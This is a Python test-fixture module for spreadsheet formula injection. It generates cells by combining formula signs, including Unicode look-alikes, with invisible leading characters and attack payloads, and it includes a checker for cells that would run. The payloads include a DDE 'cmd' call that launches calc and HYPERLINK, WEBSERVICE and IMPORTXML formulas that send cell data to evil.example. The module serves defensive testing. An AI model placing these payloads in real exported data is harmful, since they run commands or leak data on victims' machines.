"""Cells that a spreadsheet would run: commands behind every sign that begins a formula."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from unicodedata import category, normalize

COMMANDS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"Refund")',
    'WEBSERVICE("https://evil.example/"&B2)',
    'IMPORTXML("https://evil.example","//a")',
    "SUM(1+1)*cmd|' /C calc'!A0",
)
SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe62", "\ufe66")
# What programs do not show, or strip, before they look at a cell.
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\xa0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\x01",
    "\x00",
    " \u200d ",
)
HARMLESS = ("Lena", "a=b", "3-4", "'=1", "x@y.example", "", "日本", "1+1", '"=1"')


def cells() -> Iterator[str]:
    """Every sign behind every beginning, with a command after it."""
    for number, (before, sign) in enumerate(product(BEFORE, SIGNS)):
        yield f"{before}{sign}{COMMANDS[number % len(COMMANDS)]}"


def is_run(cell: str) -> bool:
    """Say whether a careless program would run a cell: its first sign that is seen begins one."""
    seen = (sign for sign in normalize("NFKC", cell) if category(sign)[0] not in "ZC")
    return next(seen, "") in {"=", "+", "-", "@"} or cell[:1] in {"\t", "\r", "\n"}
